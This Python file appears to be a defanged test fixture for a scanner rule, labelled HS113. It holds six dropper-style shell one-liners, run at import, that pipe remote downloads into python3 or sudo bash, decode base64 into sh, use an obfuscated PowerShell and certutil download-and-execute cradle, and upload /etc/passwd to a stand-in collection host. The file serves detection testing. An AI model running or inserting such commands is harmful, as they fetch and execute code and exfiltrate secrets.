# Shell one-liners seen in install-time and import-time droppers: a paste
# piped into python3 ("pyrogrom", 2024), wget into sudo bash, a base64 blob
# decoded into sh, a quote-split PowerShell cradle ("httppack", 2023), a
# certutil download started by name, and an upload of a secret file with
# curl -F. Defanged: example.invalid; the blob decodes to `echo hi`.
import os
import subprocess


def stage():
    subprocess.run("curl -s https://paste.example.invalid/raw/x | python3 > /dev/null 2>&1 &", shell=True)  # expect: HS113 critical
    os.system("wget -qO- https://example.invalid/i.sh | sudo /bin/bash -")  # expect: HS113 critical
    os.system("echo ZWNobyBoaQo= | base64 -d | sh")  # expect: HS113 critical
    os.system('pOwershelL -c "I"nv"oke-WebR"eq"uest -Uri https://example.invalid/u.bat -OutFile u.bat; iex u.bat"')  # expect: HS113 critical
    os.system("certutil -urlcache -split -f https://example.invalid/r.exe C:\\Users\\Public\\r.exe & C:\\Users\\Public\\r.exe")  # expect: HS113 critical
    os.system("curl -s -F f=@/etc/passwd https://collect.example.invalid/u")  # expect: HS113 high


stage()
